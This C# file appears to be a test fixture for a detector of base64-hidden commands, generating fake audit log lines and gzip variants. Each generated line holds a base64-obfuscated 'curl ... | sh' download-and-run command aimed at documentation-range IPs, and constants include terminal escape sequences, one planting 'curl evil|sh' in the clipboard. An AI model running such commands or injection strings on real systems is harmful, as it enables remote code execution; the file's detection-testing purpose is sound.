using System;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Text;

namespace B64Hunt.Tests.Hostile
{
    /// <summary>Generates the hostile-file inputs of issue #12 (AUOMS lines with payloads, gzip variants).</summary>
    internal static partial class HostileLines
    {
        internal const string Osc0 = "\u001b]0;owned\u0007";
        internal const string Osc52 = "\u001b]52;c;Y3VybCBldmlsfHNo\u0007";
        internal const string Csi2J = "\u001b[2J";

        internal static bool IsDisplaySafe(string? text) =>
            text == null || text.All(c => (c >= 0x20 && c != 0x7F && !(c >= 0x80 && c < 0xA0) && c != '\u202E' && c != '\u200B' && !char.IsSurrogate(c) && c != '\u2028') || c == '\n' || c == '\t');

        public static string B64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

        /// <summary>An RFC 3164 AUOMS_EXECVE line whose cmdline hides "curl ... 203.0.113.{i} ...".</summary>
        public static string Auoms(int i, string? host = null) =>
            $"Oct  1 00:{i / 60 % 60:00}:{i % 60:00} {host ?? "web-" + i} auoms[1]: type=AUOMS_EXECVE audit(1790812800.000:{i}): user=root uid=0 comm=\"bash\" " +
            $"cmdline=\"bash -c echo {B64("curl -s http://203.0.113." + (i % 250) + "/a.sh | sh")}|base64 -d|sh\" redactors= containerid=";

        public static string AuomsFile(int count, string? firstLine = null, string newline = "\n")
        {
            var lines = Enumerable.Range(0, count).Select(i => Auoms(i));
            if (firstLine != null) lines = new[] { firstLine }.Concat(lines);
            return string.Join(newline, lines) + newline;
        }

        public static byte[] Gzip(byte[] content)
        {
            using var output = new MemoryStream();
            using (var gzip = new GZipStream(output, CompressionLevel.Optimal, leaveOpen: true)) gzip.Write(content, 0, content.Length);
            return output.ToArray();
        }

        public static byte[] Gzip(string text) => Gzip(Encoding.UTF8.GetBytes(text));
    }
}
